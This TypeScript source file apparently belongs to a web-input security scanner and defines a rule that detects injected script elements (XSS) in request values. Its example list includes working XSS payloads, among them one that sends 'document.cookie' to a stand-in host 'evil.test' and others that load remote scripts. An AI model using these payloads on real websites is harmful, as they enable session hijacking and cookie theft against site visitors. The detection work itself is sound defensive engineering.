import { html } from '../../grammars/html/html.ts';
import type { HtmlTag } from '../../grammars/html/html-tags.ts';
import { followsBreakout, isOpenedHere } from '../../grammars/html/markup.ts';
import {
  isAdjacent,
  isQuote,
  kindAt,
  type ScriptTokens,
  scriptKind,
  tokenIndexAt,
  wordAt,
} from '../../grammars/script/script.ts';
import { scriptPieces, strongestScript } from '../../grammars/script/script-pieces.ts';
import { keywords } from '../../knowledge/page.ts';
import { confidence } from '../../placement/confidence.ts';
import type { Subject } from '../../placement/subject.ts';
import { charClass, isAlnum } from '../../text/char-class.ts';
import type { Match, ValueRule } from '../rule.ts';

/** `<script>…`, `<svg:script href=…>`. */
export const scriptElement: ValueRule = {
  id: 'xss.script-element',
  severity: 'critical',
  score: confidence.certain,
  message: 'starts a script element, which runs in the browser of every viewer',
  trigger: { classes: charClass.less, literals: [['script']] },
  judge: judgeScriptElement,
  examples: [
    { body: { messages: [{ content: '```\n```\n<script src=//evil.test></script>' }] } },
    { body: { message: 'a\n\n```\n<script src=//evil.test></script>\n```' } },
    { body: { readme: '# Use\n\n``` `\n<script>alert(1)</script>\n```' } },
    { body: { readme: 'a\n\n```\nb\n```\n<script>alert(1)</script>\n' } },
    { body: { readme: '<div>\n\u00a0\n```\n<script>alert(1)</script>\n```\n' } },
    { body: { readme: '```\n<script>alert(1)</script>' } },
    { body: { readme: '<pre>\n\n```\n</pre><script>alert(1)</script>\n```\n' } },
    '<script>alert(1)</script>',
    'Nice page!<ScRiPt\n>top.location="//evil.test/"+document.cookie</sCrIpT>',
    '"><script src=//evil.test/x.js>',
    ...["<svg><script xlink:href='data:,steal()'></script></svg>", '</title><script>a=/x/.source'],
    ...['</title><script src="/js/app.js"></script>', '--><script src="app.js"></script>'],
    ...['see `<script>`+alert(1)+`</script>', '`<script>`;alert(1)//`'],
    ...[
      '<script type="application/ld+json">{}</script><script>alert(1)</script>',
      "<script type=module type='application/ld+json'>alert(1)</script>",
    ],
    '<script type="application/ld+json">{"a":"<!--</script><script>alert(1)</script>"}',
  ],
  lookalikes: [
    {
      body: {
        messages: [{ content: [{ text: 'a\n\n```\n<script src="a.js"></script>\n```' }] }],
      },
    },
    {
      body: {
        readme:
          '# Use\n\n```html\n<script src="https://cdn.example.com/a.js"></script>\n```\n\nDone.',
      },
    },
    { body: { 'body.pattern': '<script[^>]*>' } },
    'Put your code between <script> and </script>, near the end of the page.',
    'The <script> tag (see chapter 4) has an async attribute.',
    'I wrote <script src="app.js"></script> at the end of the body but it does not load.',
    'manuscript <p>The script was <b>great</b>.</p>',
    'if (count<scripts.length && total > 0) run the next one',
    '<!-- Load it -->\n<script src="/js/app.js"></script>',
    '<div id="root"></div>\n<script type="module" src="./main.tsx"></script>',
    '<p class="lead"><script src="app.js"></script></p>',
    'Place one of the `<script>`s near the end, right before the closing `</body>` tag.',
    'For direct use via `<script src="...">` in the browser.',
    '<p>Opens at 9.</p><script type="application/ld+json">{"@context":"https://schema.org","@type":"Event","name":"O\'Brien & Co"}</script>',
  ],
};

const sourceAttributes: ReadonlySet<string> = new Set(['src', 'href', 'xlink:href', 'x:href']);

/** Characters of the element that are shown as evidence. */
const evidenceChars = 80;

function judgeScriptElement(subject: Subject): Match | undefined {
  const { text } = subject;
  const tokens = subject.tokens(html);
  if (!tokens.isComplete) subject.incomplete('tokens');
  let best: Match | undefined;
  for (const tag of tokens.tags) {
    if (!isScriptName(tag.name)) continue;
    if (tag.isEndTag && best !== undefined) continue;
    const score = tag.isEndTag ? scoreOfEnd(subject, tag) : scoreOf(subject, tag);
    if (score <= (best?.score ?? 0)) continue;
    const end = Math.max(tag.end, Math.min(tag.contentEnd, tag.start + evidenceChars));
    best = { start: tag.start, end: Math.min(end, text.length), score };
    if (score >= confidence.certain) break;
  }
  return best;
}

function scoreOf(subject: Subject, tag: HtmlTag): number {
  const { text } = subject;
  // Without a `>` no parser makes an element of it, but the page behind the value may have one.
  if (tag.name !== 'script')
    return tag.isClosed || mayHoldSource(subject, tag) ? confidence.likely : confidence.hint;
  for (const { name, valueStart, valueEnd } of tag.attributes) {
    if (valueEnd <= valueStart || !sourceAttributes.has(name)) continue;
    return isOwnScript(subject, tag, text.slice(valueStart, valueEnd))
      ? confidence.hint
      : confidence.certain;
  }
  if (isCodeSpan(subject, tag) || isLinkedData(text, tag)) return confidence.trace;
  const isBreakout = followsBreakout(text, tag.start);
  if (tag.isClosed || tag.contentEnd < text.length) return scoreOfContent(subject, tag, isBreakout);
  const isPrefixed =
    (text.charCodeAt(tag.start + 1) | 32) !== 115 && text.startsWith(':', tag.end - 7);
  return isBreakout || isPrefixed ? confidence.strong : confidence.hint;
}

/**
 * `<script type="application/ld+json">{"@type": …}</script>`: what search engines read of a page. Of this type it is
 * data to every browser (HTML, 4.12.1), as long as no other markup stands in it.
 */
function isLinkedData(text: string, tag: HtmlTag): boolean {
  return (
    linkedData.test(text.slice(tag.start, tag.end)) &&
    data.test(text.slice(tag.end, tag.contentEnd)) &&
    text.startsWith('</script>', tag.contentEnd)
  );
}

const linkedData = /^<script type=(["'])application\/ld\+json\1>$/i;
const data = /^\s*[{[][^<]*[}\]]\s*$/;

function scoreOfContent(subject: Subject, tag: HtmlTag, isBreakout: boolean): number {
  const { text } = subject;
  const pieces = subject.tokens(scriptPieces);
  const { tokens } = pieces;
  const first = tokenIndexAt(tokens, tag.end);
  const last = tokenIndexAt(tokens, tag.contentEnd);
  const isEnded = tag.contentEnd < text.length;
  if (isNothing(tokens, first, last)) {
    const isComment = tag.contentEnd - tag.end > 4 && first === last;
    return isBreakout || (isComment && isEnded) ? confidence.likely : confidence.hint;
  }
  const { strength } = strongestScript(pieces, tag.end, tag.contentEnd);
  if (startsAsProse(tokens, first, last)) {
    if (strength >= 3) return confidence.strong;
    return isBreakout && (last - first < 2 || !isSentenceMark(tokens, first))
      ? confidence.likely
      : confidence.trace;
  }
  if (strength >= 1) return confidence.certain;
  if (isSearch(text.slice(tag.end, Math.min(tag.contentEnd, tag.end + 80)))) return confidence.hint;
  return isEnded || isBreakout || hasOperator(tokens, first, last)
    ? confidence.certain
    : confidence.hint;
}

function mayHoldSource({ text }: Subject, tag: HtmlTag): boolean {
  return source.test(text.slice(tag.start, tag.start + tagCharsMax));
}

const source = /(?:src|href)[\s\0]{0,8}=/i;

const tagCharsMax = 400;

/**
 * `` `<script>`s ``: the tag alone in marks of code. The second mark begins the script, a template
 * that nothing ends before the words behind it, so that no script runs.
 */
function isCodeSpan(subject: Subject, tag: HtmlTag): boolean {
  const { text } = subject;
  const isMarked = text.charCodeAt(tag.start - 1) === 96 && text.charCodeAt(tag.end) === 96;
  if (!isMarked || tag.contentEnd < text.length) return false;
  return strongestScript(subject.tokens(scriptPieces), tag.end, tag.contentEnd).strength === 0;
}

/** `<script src="app.js"></script>`: a file of the same site, as beginners show it. */
function isOwnScript(subject: Subject, tag: HtmlTag, source: string): boolean {
  const { text } = subject;
  if (followsBreakout(text, tag.start) && !isOpenedHere(text, tag.start)) return false;
  // `src="…"` stands for any.
  if (dots.test(source)) return isCodeSpan(subject, tag);
  if (!ownSource.test(source)) return false;
  const content = text.slice(tag.end, Math.min(tag.contentEnd, tag.end + 40));
  return content.trim() === '' && tag.contentEnd < text.length;
}

const dots = /^(?:\.{3}|…)$/;
/** A path in plain spelling to a script with a name. */
const ownSource =
  /^(?:\.?\/)?(?:[\w@-]{2,40}\/){0,6}[\w@-]{2,40}(?:\.[\w-]{1,20}){0,3}\.(?:m?js|[jt]sx?)$/;

/**
 * `script`, also with rubbish behind it that an old parser or a filter drops; no `script-loader`.
 */
function isScriptName(name: string): boolean {
  if (name === 'script') return true;
  if (!name.startsWith('script')) return false;
  // `<script[^>]*>` is a pattern.
  return !isAlnum(name.charCodeAt(6)) && !'-_.:,@'.includes(name.charAt(6)) && name !== 'script[^';
}

/** An end tag without its start tag closes the script that the value lands in. */
function scoreOfEnd(subject: Subject, tag: HtmlTag): number {
  const pieces = subject.tokens(scriptPieces);
  const { tokens } = pieces;
  const last = kindAt(tokens, tokenIndexAt(tokens, tag.start) - 1);
  const isTagEnd = last === 62 && isQuote(kindAt(tokens, tokenIndexAt(tokens, tag.start) - 2));
  const endsCode =
    isTagEnd || last === 59 || last === 41 || last === 125 || last === 34 || last === 39;
  if (endsCode) return confidence.strong;
  const { strength } = strongestScript(pieces, 0, tag.start);
  return strength >= 2 && !pieces.isProse ? confidence.strong : confidence.trace;
}

/** No content, or just dots that stand for some. */
function isNothing(tokens: ScriptTokens, first: number, last: number): boolean {
  for (let i = first; i < last && i < first + 8; i++) {
    const kind = kindAt(tokens, i);
    if (kind !== 46 && kind !== 0x2026 && kind !== 60) return false;
  }
  return last - first < 8;
}

/** Two plain words, or one word with a comma, full stop or bracket as in a sentence. */
function startsAsProse(tokens: ScriptTokens, first: number, last: number): boolean {
  if (kindAt(tokens, first) !== scriptKind.word) return isSentenceMark(tokens, first);
  if (isAdjacent(tokens, first) || keywords.has(wordAt(tokens, first))) return false;
  if (first + 1 >= last) return true;
  const next = kindAt(tokens, first + 1);
  if (next === scriptKind.word) return !infix.has(wordAt(tokens, first + 1));
  return !isAdjacent(tokens, first + 1) && next === 40;
}

/** `<script>+tag+async+or+defer`: words of a search in an address, where `+` is a blank. */
function isSearch(content: string): boolean {
  return searchWords.test(content);
}

/** Words that join the one before to the one behind; of others, two in a row are no script. */
const infix: ReadonlySet<string> = new Set(['in', 'instanceof', 'of', 'as']);
const searchWords = /^(?:\+|%20)[A-Za-z]{2,20}(?:(?:\+|%20)[A-Za-z]{2,20}){1,8}(?:$|[&#])/;

/** `<script>, …`, `<script>. Then`, `"<script>" is`: what no script begins with. */
function isSentenceMark(tokens: ScriptTokens, at: number): boolean {
  const kind = kindAt(tokens, at);
  const isMark = kind === 44 || kind === 46 || kind === 58 || kind === 41 || isQuote(kind);
  // `<script =">" src="…">`: the first `>` ends the tag for the standard, but not for all.
  if (kindAt(tokens, at + 2) === 61) return false;
  return isMark && isAdjacent(tokens, at) && !isAdjacent(tokens, at + 1);
}

function hasOperator(tokens: ScriptTokens, first: number, last: number): boolean {
  for (let i = first; i < last && i < first + 12; i++) {
    const kind = kindAt(tokens, i);
    if (kind === 61 || kind === 40 || kind === 59 || kind === 91 || kind === 96) return true;
  }
  return false;
}
